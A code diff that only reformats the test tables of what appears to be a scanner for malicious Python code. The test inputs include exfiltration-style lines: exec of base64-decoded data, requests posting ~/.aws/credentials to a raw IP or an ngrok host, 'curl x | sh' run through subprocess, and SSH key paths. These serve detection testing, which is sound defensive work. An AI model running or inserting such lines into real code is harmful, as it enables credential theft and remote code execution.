@@ -22,19 +22,35 @@ NAMES = [
     ("", "unknown[::-1]", "fold", None, "a reversed unknown"),
     ("", "f'exec'", "fold", "exec", "an f-string without placeholders"),
     ("", "f'ex{c}'", "fold", None, "an f-string with a placeholder is not known"),
-    ("import os", "getattr(os, 'sys' + 'tem')", "qualname", "os.system", "getattr with a folded name"),
+    (
+        "import os",
+        "getattr(os, 'sys' + 'tem')",
+        "qualname",
+        "os.system",
+        "getattr with a folded name",
+    ),
     ("import os", "getattr(os, name)", "qualname", "getattr()", "getattr with a variable name"),
     ("", "getattr(__builtins__, 'eval')", "qualname", "builtins.eval", "builtins holder"),
     ("", "__import__('subprocess')", "qualname", "subprocess", "__import__ of a literal"),
-    ("import os", "os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')", "path", "{}/.ssh/id_rsa",
-     "os.path.join pieces, unknown ones as {}"),
-    ("from pathlib import Path", "Path.home() / '.ssh' / 'id_rsa'", "path", "{}/.ssh/id_rsa",
-     "pathlib's / nests"),
+    (
+        "import os",
+        "os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')",
+        "path",
+        "{}/.ssh/id_rsa",
+        "os.path.join pieces, unknown ones as {}",
+    ),
+    (
+        "from pathlib import Path",
+        "Path.home() / '.ssh' / 'id_rsa'",
+        "path",
+        "{}/.ssh/id_rsa",
+        "pathlib's / nests",
+    ),
     ("", "base.joinpath('.aws', 'credentials')", "path", "{}/.aws/credentials", "Path.joinpath"),
     ("", "total / count", "path", None, "a division by something that is not text is arithmetic"),
     ("", "len(x)", "path", None, "a call that joins nothing"),
     ("", "'a' + 'b'", "path", None, "an expression that is no call and no division"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(
@@ -55,7 +71,12 @@ FACTS = [
     ("open('in.bin', 'rb')\n", "write", False, "a read mode"),
     ("open('in.txt')\n", "write", False, "no mode: read"),
     ("import os\nv = os.environ['HOME']\n", "env", True, "reading one variable"),
-    ("import os\nos.environ['PIP_NO_CACHE_DIR'] = '1'\n", "env", False, "setting one is not reading"),
+    (
+        "import os\nos.environ['PIP_NO_CACHE_DIR'] = '1'\n",
+        "env",
+        False,
+        "setting one is not reading",
+    ),
     ("import os\nok = 'CI' in os.environ\n", "env-all", False, "a membership test takes nothing"),
     ("import os\nos.environ.setdefault('A', '1')\n", "env-all", False, "setdefault takes nothing"),
     ("import os\nd = os.environ.copy()\n", "env-all", True, "copy() takes everything"),
@@ -63,9 +84,13 @@ FACTS = [
     ("environ = {}\nd = dict(environ)\n", "env-all", False, "a local dict named environ"),
     ("import os\nx: str\nx = os.environ['A']\n", "env", True, "a bare annotation assigns nothing"),
     ("import os\nwith open(os.environ['A']):\n    pass\n", "env", True, "a with item without `as`"),
-    ("try:\n    import json\nexcept ImportError:\n    import os as o\nv = o.environ['A']\n", "env",
-     True, "imports inside an except block are learned"),
-]  # fmt: skip
+    (
+        "try:\n    import json\nexcept ImportError:\n    import os as o\nv = o.environ['A']\n",
+        "env",
+        True,
+        "imports inside an except block are learned",
+    ),
+]
 
 
 @pytest.mark.parametrize(("source", "kind", "present", "reason"), FACTS, ids=[f[3] for f in FACTS])
@@ -81,35 +106,74 @@ FARTHER = FAR * 2  # far enough that their windows do not merge
 PREFILTER = [
     (b"exec(x)\n" + FAR + b"y = base64.b64decode(z)\n", False, "exec and decode far apart"),
     (b"exec(base64.b64decode(z))\n", True, "exec next to decode"),
-    (b"exec(x)\n" + FARTHER + b"exec(base64.b64decode(z))\n", True,
-     "a later window of its own holds the pair"),
-    ((b"__import__(x)\n" + FAR) * MAX_PER_WORD + b"__import__(base64.b64decode(z))\n", False,
-     "the prefilter stops after MAX_PER_WORD far-apart places of one word: bounded time"),
-    (b"x.execute()\n" * MAX_SKIPPED + b"exec(base64.b64decode(z))\n", False,
-     "and after MAX_SKIPPED places of exec or eval that are not calls"),
+    (
+        b"exec(x)\n" + FARTHER + b"exec(base64.b64decode(z))\n",
+        True,
+        "a later window of its own holds the pair",
+    ),
+    (
+        (b"__import__(x)\n" + FAR) * MAX_PER_WORD + b"__import__(base64.b64decode(z))\n",
+        False,
+        "the prefilter stops after MAX_PER_WORD far-apart places of one word: bounded time",
+    ),
+    (
+        b"x.execute()\n" * MAX_SKIPPED + b"exec(base64.b64decode(z))\n",
+        False,
+        "and after MAX_SKIPPED places of exec or eval that are not calls",
+    ),
     (b"x.execute()\nexec (base64.b64decode(z))\n", True, "execute is passed over, exec ( is not"),
-    (b"import base64\nf = getattr(builtins, 'eval')\nf(base64.b64decode(z))\n", True,
-     "'eval' named as a string"),
+    (
+        b"import base64\nf = getattr(builtins, 'eval')\nf(base64.b64decode(z))\n",
+        True,
+        "'eval' named as a string",
+    ),
     (b"z = base64.b64decode(y)\nexec", False, "exec as the last word of a file calls nothing"),
-    (b"import requests\ncreds = load_credentials()\nrequests.post(u, data=creds)\n", False,
-     "'credentials' alone is in every cloud client: not a strong source"),
-    (b"import requests\np = '~/.aws/credentials'\nrequests.post(u, data=open(p).read())\n", True,
-     "a send next to a credential path"),
-    (b"import requests\nrequests.post('http://203.0.113.9/c', data=x)\n", True,
-     "a send next to a raw IP URL"),
-    (b"import requests\nrequests.post('ws://[2a03:4000:1:2::3]/c', data=x)\n", True,
-     "a send next to an IPv6 literal URL"),
-    (b"import requests\nrequests.post('https://abc.ngrok.io/c', data=x)\n", True,
-     "a send next to a tunnel host"),
-    (b"import requests\nrequests.get('https://example.org/docs')\n", False,
-     "a send next to an ordinary URL"),
-    (b"import subprocess, requests\nsubprocess.run(['ls'])\nrequests.get(u)\n", True,
-     "a process next to a download at runtime: a dropper may start what it fetched"),
-    (b"import subprocess, json\nsubprocess.run(['ls'])\njson.dumps(u)\n", False,
-     "a process with nothing fetched or decoded near it"),
-    (b"import subprocess\nsubprocess.run('curl x | sh', shell=True)\n", True,
-     "a process running curl"),
-]  # fmt: skip
+    (
+        b"import requests\ncreds = load_credentials()\nrequests.post(u, data=creds)\n",
+        False,
+        "'credentials' alone is in every cloud client: not a strong source",
+    ),
+    (
+        b"import requests\np = '~/.aws/credentials'\nrequests.post(u, data=open(p).read())\n",
+        True,
+        "a send next to a credential path",
+    ),
+    (
+        b"import requests\nrequests.post('http://203.0.113.9/c', data=x)\n",
+        True,
+        "a send next to a raw IP URL",
+    ),
+    (
+        b"import requests\nrequests.post('ws://[2a03:4000:1:2::3]/c', data=x)\n",
+        True,
+        "a send next to an IPv6 literal URL",
+    ),
+    (
+        b"import requests\nrequests.post('https://abc.ngrok.io/c', data=x)\n",
+        True,
+        "a send next to a tunnel host",
+    ),
+    (
+        b"import requests\nrequests.get('https://example.org/docs')\n",
+        False,
+        "a send next to an ordinary URL",
+    ),
+    (
+        b"import subprocess, requests\nsubprocess.run(['ls'])\nrequests.get(u)\n",
+        True,
+        "a process next to a download at runtime: a dropper may start what it fetched",
+    ),
+    (
+        b"import subprocess, json\nsubprocess.run(['ls'])\njson.dumps(u)\n",
+        False,
+        "a process with nothing fetched or decoded near it",
+    ),
+    (
+        b"import subprocess\nsubprocess.run('curl x | sh', shell=True)\n",
+        True,
+        "a process running curl",
+    ),
+]
 
 
 @pytest.mark.parametrize(("data", "expected", "reason"), PREFILTER, ids=[p[2] for p in PREFILTER])
@@ -122,7 +186,7 @@ ENTROPY = [
     ("aaaa", 0.0, "one symbol"),
     ("abab", 1.0, "two equally frequent symbols: one bit"),
     ("abcdefgh", 3.0, "eight distinct symbols: three bits"),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize(("text", "bits", "reason"), ENTROPY, ids=[e[2] for e in ENTROPY])
@@ -205,17 +269,30 @@ def test_a_helper_of_a_helper_is_followed() -> None:
 
 
 HELPERS = [
-    ("import socket\ndef conn(host):\n    s = socket.socket()\n    s.connect((host, 80))\nconn(H)\n",
-     set(), "where a helper's socket connects is not something it sends"),
-    ("def save(path, text):\n    open(path, 'w').write(text)\nsave(P, 'x')\n",
-     {"put"}, "a helper writing what it is given drops nothing fetched"),
+    (
+        "import socket\ndef conn(host):\n    s = socket.socket()\n    s.connect((host, 80))\nconn(H)\n",
+        set(),
+        "where a helper's socket connects is not something it sends",
+    ),
+    (
+        "def save(path, text):\n    open(path, 'w').write(text)\nsave(P, 'x')\n",
+        {"put"},
+        "a helper writing what it is given drops nothing fetched",
+    ),
     ("def save(f):\n    f.write()\nsave(x)\n", set(), "a write of nothing"),
     ("def save(f):\n    f.write(flush=True)\nsave(x)\n", {"put"}, "a write of no known data"),
-    ("import requests\ndef get(path, url):\n    open(path, 'wb').write(requests.get(url).content)\n"
-     "get(P, U)\n", {"put", "send", "drop"}, "a helper saving a download drops it at the caller"),
-    ("import os\ndef run(c):\n    os.system(c)\ndef unused(c):\n    os.system(c)\nrun(C)\n",
-     {"spawn"}, "only the helpers called are summarised"),
-]  # fmt: skip
+    (
+        "import requests\ndef get(path, url):\n    open(path, 'wb').write(requests.get(url).content)\n"
+        "get(P, U)\n",
+        {"put", "send", "drop"},
+        "a helper saving a download drops it at the caller",
+    ),
+    (
+        "import os\ndef run(c):\n    os.system(c)\ndef unused(c):\n    os.system(c)\nrun(C)\n",
+        {"spawn"},
+        "only the helpers called are summarised",
+    ),
+]
 
 
 @pytest.mark.parametrize(("source", "kinds", "reason"), HELPERS)
